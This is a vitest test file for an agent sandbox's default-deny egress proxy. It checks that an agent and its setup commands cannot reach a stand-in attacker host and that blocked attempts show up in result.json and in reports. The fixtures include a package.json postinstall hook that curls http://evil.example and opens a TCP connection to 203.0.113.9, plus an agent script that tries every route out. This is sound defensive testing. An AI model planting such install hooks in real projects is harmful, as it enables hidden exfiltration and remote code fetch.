import { createSocket } from "node:dgram";
import { mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { type Server, createServer } from "node:http";
import { createServer as createHttpsServer } from "node:https";
import { type AddressInfo, createServer as createNetServer } from "node:net";
import { join, resolve } from "node:path";
import { afterAll, beforeAll, describe, expect, test, vi } from "vitest";
import { probeBubblewrap } from "../src/containment/sandbox.js";
import { loadRun } from "../src/run-dir/run-lookup.js";
import { renderMarkdownReport } from "../src/review/markdown-report.js";
import { renderTextReport } from "../src/review/text-report.js";
import { testCertificates } from "./helpers/test-ca.js";
import { FAILING_ADD_PROJECT, makeRepo, tempDir } from "./helpers/repo.js";
import { agent, delegate, delegateWithoutSandbox } from "./helpers/run.js";
import { expectVerifiedFix } from "./helpers/verdicts.js";

/**
 * Issue 29: the agent and setup reach the network only through handoff's egress proxy, default deny. A listener on
 * this machine's loopback stands for an attacker's host; every way out the agent tries must fail, and what went
 * through the proxy is in result.json `network`.
 */
const bwrap = await probeBubblewrap();
if (!bwrap.ok && process.env.HANDOFF_SANDBOX_TESTS === "required") throw new Error(`bubblewrap is required here: ${bwrap.reason}`);

const VERIFY = { verify: ["npm test"] };

/** What this machine's "attacker" saw: HTTP requests, UDP datagrams, abstract-socket connections. */
interface Attacker {
  readonly port: number;
  readonly udpPort: number;
  readonly abstractName: string;
  readonly seen: () => { http: number; udp: number; abstract: number };
  close(): void;
}

async function startAttacker(): Promise<Attacker> {
  const seen = { http: 0, udp: 0, abstract: 0 };
  const http: Server = createServer((_request, response) => {
    seen.http++;
    response.end("stolen");
  });
  await new Promise<void>((resolve) => http.listen(0, "127.0.0.1", resolve));
  const udp = createSocket("udp4");
  udp.on("message", () => seen.udp++);
  await new Promise<void>((resolve) => udp.bind(0, "127.0.0.1", resolve));
  const abstractName = `handoff-egress-test-${process.pid}-${Date.now()}`;
  const abstract = createNetServer((socket) => {
    seen.abstract++;
    socket.destroy();
  });
  await new Promise<void>((resolve) => abstract.listen(`\0${abstractName}`, resolve));
  return {
    port: (http.address() as AddressInfo).port,
    udpPort: udp.address().port,
    abstractName,
    seen: () => ({ ...seen }),
    close: () => {
      http.close();
      udp.close();
      abstract.close();
    },
  };
}

describe.skipIf(!bwrap.ok)("default-deny egress for the agent and setup (bubblewrap)", () => {
  let attacker: Attacker;
  beforeAll(async () => {
    attacker = await startAttacker();
  });
  afterAll(() => attacker.close());

  function attackerEnv(): string[] {
    process.env.HANDOFF_TEST_ATTACKER_PORT = String(attacker.port);
    process.env.HANDOFF_TEST_UDP_PORT = String(attacker.udpPort);
    process.env.HANDOFF_TEST_ABSTRACT = attacker.abstractName;
    process.env.ANTHROPIC_API_KEY = "sk-ant-egress-test-key";
    return ["HANDOFF_TEST_ATTACKER_PORT", "HANDOFF_TEST_UDP_PORT", "HANDOFF_TEST_ABSTRACT", "ANTHROPIC_API_KEY"];
  }

  test("an agent that tries every way out reaches nothing; its fix is still judged and verified, and the blocked hosts are on record", async () => {
    const repo = await makeRepo(FAILING_ADD_PROJECT);
    const run = await delegate(repo, agent("fixes-add-and-calls-out.sh"), { ...VERIFY, env: attackerEnv() });
    expectVerifiedFix(run);
    const tried = /egress-tried\.txt[\s\S]*?@@[^\n]*\n((?:\+[^\n]*\n)+)/.exec(run.patch)?.[1] ?? "";
    expect(tried).toContain("+http-through-proxy: failed");
    expect(tried).toContain("+https-through-proxy: failed");
    expect(tried).toContain("+private-address-through-proxy: failed");
    expect(tried).toContain("+host-loopback-around-proxy: failed");
    expect(tried).toContain("+public-address-around-proxy: failed");
    expect(tried).toContain("+raw-tcp: failed");
    expect(tried).toContain("+dns: failed");
    expect(tried).toContain("+abstract-socket: failed");
    expect(tried).not.toContain("REACHED");
    expect(attacker.seen()).toEqual({ http: 0, udp: 0, abstract: 0 });

    const network = run.result.network!;
    expect(network).toMatchObject({ mode: "filtered", enforced: true, reason: null });
    expect(network.blocked).toEqual(
      expect.arrayContaining([
        expect.objectContaining({ host: "evil.example", port: attacker.port, reason: "not_allowed", roles: ["agent"] }),
        expect.objectContaining({ host: "evil.example", port: 443, reason: "not_allowed" }),
        expect.objectContaining({ host: "127.0.0.2", port: attacker.port, reason: "private_address" }),
        // Around the proxy: seen by the packet watch on the sandbox's loopback, refused there.
        expect.objectContaining({ host: "127.0.0.1", port: attacker.port, via: "tcp", reason: "outside_proxy", attempts: 2 }),
        expect.objectContaining({ host: "1.1.1.1", port: 80, via: "tcp", reason: "outside_proxy" }),
        expect.objectContaining({ host: "127.0.0.1", port: attacker.udpPort, via: "udp", reason: "outside_proxy" }),
        expect.objectContaining({ host: "example.com", port: 53, via: "dns", reason: "dns_lookup" }),
      ]),
    );
    expect(network.blocked).toHaveLength(7);
    expect(network.aroundProxy).toMatchObject({ recorded: true });
    expect(network.attempts.filter((a) => a.allowed)).toEqual([]);
    expect(run.result.containment?.network).toEqual({ agent: "filtered", setup: "filtered", verify: "none" });
    expect(run.result.policy.warnings.filter((w) => w.rule === "egress_blocked")).toHaveLength(network.blocked.length);

    const events = readFileSync(join(run.runDir, "events.jsonl"), "utf8")
      .split("\n")
      .filter(Boolean)
      .map((line) => JSON.parse(line) as { type: string; host?: string });
    expect(events.filter((e) => e.type === "egress.blocked").map((e) => e.host)).toEqual(
      expect.arrayContaining(["evil.example", "127.0.0.2", "127.0.0.1", "1.1.1.1", "example.com"]),
    );

    // What a reviewer reads first: the blocked hosts, near the top of every report.
    const loaded = loadRun(run.runDir);
    const text = renderTextReport(loaded).split("\n").slice(0, 6).join("\n");
    expect(text).toContain(
      `network: the agent tried to reach 5 hosts that were blocked: evil.example (port ${attacker.port}, 443), 127.0.0.2 (port ${attacker.port}), 127.0.0.1 (port ${attacker.port}; UDP port ${attacker.udpPort}), 1.1.1.1 (port 80), example.com (DNS lookup)`,
    );
    const markdown = renderMarkdownReport(loaded).split("\n").slice(0, 10).join("\n");
    expect(markdown).toContain("**Network:** the agent tried to reach 5 hosts that were blocked");
    // The key it was given is redacted from the run directory as before; the URL it tried to send it in is not kept whole.
    expect(readFileSync(join(run.runDir, "result.json"), "utf8")).not.toContain("sk-ant-egress-test-key");
  });

  test("a host named with --allow-net is reached over HTTP and over HTTPS (CONNECT); a CONNECT whose TLS names another host is refused", async () => {
    const certs = testCertificates("localhost");
    let reached = 0;
    const plain = createServer((_request, response) => {
      reached++;
      response.end("plain ok");
    });
    const tls = createHttpsServer({ key: certs.key, cert: certs.cert }, (_request, response) => {
      reached++;
      response.end("tls ok");
    });
    await new Promise<void>((resolve) => plain.listen(0, "127.0.0.1", resolve));
    await new Promise<void>((resolve) => tls.listen(0, "127.0.0.1", resolve));
    const plainPort = (plain.address() as AddressInfo).port;
    const tlsPort = (tls.address() as AddressInfo).port;
    try {
      const repo = await makeRepo({ ...FAILING_ADD_PROJECT, "ca.pem": certs.ca });
      const cmd = [
        "sed -i 's/a - b/a + b/' math.js",
        // The sandbox's own loopback is direct (NO_PROXY); a name given to the proxy explicitly goes out through it.
        `curl -sS -f --noproxy '' -x "$HTTP_PROXY" http://localhost:${plainPort}/ > fetched-plain.txt 2>&1`,
        `curl -sS -f --noproxy '' -x "$HTTPS_PROXY" --cacert ca.pem https://localhost:${tlsPort}/ > fetched-tls.txt 2>&1`,
        `echo | openssl s_client -proxy "\${HTTPS_PROXY#http://}" -connect localhost:${tlsPort} -servername evil.example > sni.txt 2>&1; echo "exit $?" >> sni.txt`,
        "true",
      ].join("; ");
      const run = await delegate(repo, cmd, { ...VERIFY, allowNet: ["localhost"] });
      expectVerifiedFix(run);
      expect(run.patch).toContain("+plain ok");
      expect(run.patch).toContain("+tls ok");
      expect(reached).toBe(2);
      const network = run.result.network!;
      expect(network.allowed).toEqual(
        expect.arrayContaining([
          expect.objectContaining({ host: "localhost", port: plainPort, rule: "--allow-net localhost" }),
          expect.objectContaining({ host: "localhost", port: tlsPort, rule: "--allow-net localhost" }),
        ]),
      );
      expect(network.blocked).toEqual([expect.objectContaining({ host: "localhost", port: tlsPort, reason: "sni_mismatch" })]);
      expect(network.allowed.find((host) => host.port === tlsPort)!.bytesDown).toBeGreaterThan(0);
    } finally {
      plain.close();
      tls.close();
    }
  });

  test("a setup command (npm ci whose postinstall calls out) is held to the same rules; --egress-blocked fail ends the run exit 4", async () => {
    const repo = await makeRepo({
      ...FAILING_ADD_PROJECT,
      "package.json": JSON.stringify({
        name: "calls-out",
        version: "1.0.0",
        scripts: {
          test: "node test.js",
          postinstall:
            "curl -sS -m 5 -f http://evil.example/postinstall; node -e \"require('net').connect(443, '203.0.113.9').on('error', () => {})\"; true",
        },
      }),
      "package-lock.json": JSON.stringify({
        name: "calls-out",
        version: "1.0.0",
        lockfileVersion: 3,
        requires: true,
        packages: { "": { name: "calls-out", version: "1.0.0" } },
      }),
    });
    const warned = await delegate(repo, agent("fixes-add.sh"), { ...VERIFY, setup: ["npm ci"] });
    expectVerifiedFix(warned);
    expect(warned.result.network?.blocked).toEqual([
      expect.objectContaining({ host: "evil.example", port: 80, roles: ["setup"], labels: ["npm ci"] }),
      expect.objectContaining({
        host: "203.0.113.9",
        port: 443,
        via: "tcp",
        reason: "outside_proxy",
        roles: ["setup"],
        labels: ["npm ci"],
      }),
    ]);
    expect(warned.result.network?.rules).toEqual(expect.arrayContaining([expect.stringContaining('npm preset, from "npm ci"')]));

    // A cache of its own: the first run's base environment would be reused, and its setup not run again.
    const failed = await delegate(repo, agent("fixes-add.sh"), {
      ...VERIFY,
      setup: ["npm ci"],
      egressBlocked: "fail",
      cacheDir: tempDir("handoff-egress-cache"),
    });
    expect(failed.result).toMatchObject({ terminalReason: "policy_or_artifact_error", detail: "egress_blocked" });
    expect(failed.result.summary).toContain("evil.example:80");
  });

  test("--allow-net '*' gives the host network as before, and the run says so", async () => {
    const repo = await makeRepo(FAILING_ADD_PROJECT);
    const before = attacker.seen().http;
    const cmd = `sed -i 's/a - b/a + b/' math.js; curl -sS -m 5 -f http://127.0.0.1:${attacker.port}/open > got.txt 2>&1; true`;
    const run = await delegate(repo, cmd, { ...VERIFY, allowNet: ["*"] });
    expectVerifiedFix(run);
    expect(run.patch).toContain("+stolen");
    expect(attacker.seen().http).toBe(before + 1);
    expect(run.result.network).toMatchObject({ mode: "open", enforced: true });
    expect(run.result.containment?.network).toMatchObject({ agent: "host", setup: "host", verify: "none" });
    expect(run.result.policy.warnings.map((w) => w.rule)).toContain("network_unfiltered");
  });
});

describe.runIf(bwrap.ok)("a login that must stay a file", () => {
  test("a CLI's OAuth login file is said in result.json network.logins: with the agent, and how far it could go", async () => {
    const userHome = tempDir("handoff-user");
    mkdirSync(join(userHome, ".claude"));
    writeFileSync(join(userHome, ".claude", ".credentials.json"), '{"old":true}\n');
    vi.stubEnv("HOME", userHome);
    try {
      const repo = await makeRepo(FAILING_ADD_PROJECT);
      const run = await delegate(repo, "", {
        backend: "claude",
        bin: resolve(import.meta.dirname, "../fixtures/fake-clis/claude-refreshes-login.sh"),
        ...VERIFY,
      });
      expect(run.result.network?.logins).toEqual([
        {
          backend: "claude",
          file: join(userHome, ".claude", ".credentials.json"),
          held: "with_agent",
          detail: expect.stringContaining("the agent could send it only to the hosts the allowlist names"),
        },
      ]);
      expect(run.result.network?.keys).toEqual([]);
    } finally {
      vi.unstubAllEnvs();
    }
  });

  test("a secret passed with --env that no key route takes (a GitHub token for a claude agent) is said in network.keys: with the agent", async () => {
    const userHome = tempDir("handoff-user-home");
    vi.stubEnv("HOME", userHome);
    vi.stubEnv("GITHUB_TOKEN", "ghp_handoffTestToken0123456789");
    vi.stubEnv("PROJECT_NAME", "not-a-secret");
    try {
      const repo = await makeRepo(FAILING_ADD_PROJECT);
      const run = await delegate(repo, "", {
        backend: "claude",
        bin: resolve(import.meta.dirname, "../fixtures/fake-clis/claude-refreshes-login.sh"),
        env: ["GITHUB_TOKEN", "PROJECT_NAME"],
        ...VERIFY,
      });
      expect(run.result.network?.keys).toEqual([
        {
          backend: "claude",
          variable: "GITHUB_TOKEN",
          held: "with_agent",
          detail: expect.stringContaining("it is in the agent's environment"),
        },
      ]);
    } finally {
      vi.unstubAllEnvs();
    }
  });
});

test("without a sandbox nothing holds the agent's network, and result.json and the report say so", async () => {
  const repo = await makeRepo(FAILING_ADD_PROJECT);
  const run = await delegateWithoutSandbox(repo, agent("fixes-add.sh"), VERIFY);
  expectVerifiedFix(run);
  expect(run.result.network).toMatchObject({ mode: "open", enforced: false });
  expect(run.result.network?.reason).toContain("no sandbox");
  expect(renderTextReport(loadRun(run.runDir))).toContain("network: the agent had this machine's network: no sandbox");
});
